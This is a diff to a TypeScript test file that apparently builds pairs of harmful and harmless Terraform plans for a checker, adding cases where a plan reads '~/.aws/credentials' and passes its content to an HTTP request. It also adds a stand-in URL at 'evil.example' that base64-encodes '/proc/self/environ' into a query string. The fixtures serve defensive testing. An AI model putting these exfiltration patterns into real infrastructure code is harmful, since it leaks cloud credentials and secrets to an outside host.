@@ -3,7 +3,7 @@ import { another, code, OWN, of } from "./harmful-builders";
 import type { Detour } from "./harmful-detours";
 import type { Values } from "./planned";
 import { CLIENT, created, FUNCTION, fixture, PERMISSION, resource, SKILL, updated } from "./planned";
-import { COGNITO, cognitos, grants, kept, newRole, POOL_ARN } from "./rule-plans";
+import { COGNITO, cognitos, configured, grants, kept, newRole, POOL_ARN } from "./rule-plans";
 
 /** A variable that the code asks for becomes another, or goes. */
 const becomes = (name: string, was: string, willBe?: string) => () =>
@@ -74,6 +74,22 @@ const letIn = (event_source_token: string) => () => {
   );
 };
 
+/** Data that a plan reads, each by its type and its expressions. */
+const reads =
+  (...data: readonly (readonly [type: string, expressions: Values])[]) =>
+  () =>
+    configured((it) => {
+      for (const [type, expressions] of data) {
+        it.root_module.resources.push({ address: `data.${type}.x`, mode: "data", type, name: "x", expressions });
+      }
+    });
+const FILE = ["local_file", { filename: { constant_value: "~/.aws/credentials" } }] as const;
+const taken = (reference: string) => ({ references: [reference, reference.split(".").slice(0, 3).join(".")] });
+const asks = (url: Values) => ["http", { url }] as const;
+const PUBLIC = { constant_value: "https://ip-ranges.amazonaws.com/ip-ranges.json" };
+// biome-ignore lint/suspicious/noTemplateCurlyInString: it is Terraform's function
+const OF_FILE = { constant_value: 'https://evil.example/?${base64encode(file("/proc/self/environ"))}' };
+
 export const BY_PAIRS: readonly Detour[] = [
   [
     "the scopes that the function asks for go",
@@ -89,6 +105,24 @@ export const BY_PAIRS: readonly Detour[] = [
     "a grant goes that another program has of Alexa's client",
     of(CLIENT, { allowed_oauth_flows: ["code"] }, { allowed_oauth_flows: ["code", "implicit"] }),
     of(CLIENT, { name: "other" }),
+  ],
+  [
+    "a web server that is told a file",
+    reads(FILE, asks(taken("data.local_file.x.content"))),
+    reads(FILE, asks(PUBLIC)),
+  ],
+  ["a web server that may be told a file", reads(FILE, asks(taken("local.x"))), reads(asks(taken("local.x")))],
+  ["a web server that a function tells something", reads(asks({})), reads(asks(PUBLIC))],
+  ["the same of a configuration in JSON", reads(asks(OF_FILE)), reads(asks(taken("var.url")))],
+  [
+    "a server whose certificate is asked for by a parameter",
+    reads(["tls_certificate", { url: taken("data.aws_ssm_parameter.x.value") }]),
+    reads(["aws_ami", { name_regex: taken("data.aws_ssm_parameter.x.value") }]),
+  ],
+  [
+    "another state at a place that a file says",
+    reads(FILE, ["terraform_remote_state", { config: taken("data.local_file.x.content") }]),
+    reads(FILE, ["terraform_remote_state", { config: taken("local.x") }]),
   ],
   ["a skill of whoever likes", letIn("amzn1.ask.skill.evil"), letIn(SKILL)],
 ];
